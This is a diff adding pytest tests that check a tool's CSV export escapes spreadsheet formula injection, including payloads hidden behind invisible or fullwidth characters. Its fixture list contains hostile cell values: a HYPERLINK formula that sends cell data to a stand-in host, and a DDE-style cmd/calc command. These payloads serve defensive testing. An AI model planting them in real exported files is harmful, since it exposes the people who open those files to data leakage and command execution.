@@ -7,6 +7,8 @@ NAME.xx.txt group) of the reliability review.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import sqlite3
@@ -110,3 +112,56 @@ def test_exports_follow_the_umask(project: Path, tmp_path: Path, umask: int) -> 
     assert result.returncode == 0, result.stderr
     assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out-")] == []
+
+
+# --- row 20: the CSV formula guard sees through leading invisibles ----------------------------
+
+HOSTILE_NOTES = [
+    '\u200b=HYPERLINK("http://x.example/?d="&A1)',
+    "\n+cmd|' /C calc'!A0",
+    " \u00a0\ufeff-2+3",
+    "\u200f@SUM(A1:A9)",
+    '\uff1dHYPERLINK("http://x.example")',
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "|cmd",
+    "\u2060 | calc",
+]
+
+
+def _sentence_ids(project: Path) -> list[str]:
+    conn = sqlite3.connect(f"{project.as_uri()}?mode=ro", uri=True)
+    try:
+        return [row[0] for row in conn.execute("SELECT id FROM sentence ORDER BY text_id, idx")]
+    finally:
+        conn.close()
+
+
+def test_csv_export_neutralizes_formulas_behind_invisible_characters(project: Path, tmp_path: Path) -> None:
+    extra = tmp_path / "extra.jsonl"
+    extra.write_text(
+        "".join(json.dumps({"text": f"Extra report {i}.", "lang": "en"}) + "\n" for i in range(len(HOSTILE_NOTES))),
+        encoding="utf-8",
+    )
+    assert sverka("import", str(project), str(extra), "--no-names").returncode == 0
+    ids = _sentence_ids(project)[: len(HOSTILE_NOTES)]
+    stdin = "".join(
+        json.dumps({"sentence_id": sid, "action": "note", "note": note, "annotator": "ana"}) + "\n"
+        for sid, note in zip(ids, HOSTILE_NOTES, strict=True)
+    )
+    tagged = sverka("tag", str(project), stdin=stdin)
+    assert tagged.returncode == 0, tagged.stderr
+    out = tmp_path / "out.csv"
+    assert sverka("export", str(project), "-o", str(out), "--format", "csv").returncode == 0
+    rows = {r["sentence_id"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    notes = [rows[sid]["notes"] for sid in ids]
+    assert notes == ["'" + note for note in HOSTILE_NOTES]
+
+
+def test_csv_guard_leaves_ordinary_cells_alone() -> None:
+    from sverka.ops.export.writers.csv import csv_cell
+
+    for plain in ["Roads were closed.", " a = b", "\u200bfine", "", "e-mail", "\uff21"]:
+        assert csv_cell(plain) == plain
+    assert csv_cell("=1") == "'=1" and csv_cell("\t=1") == "'\t=1"
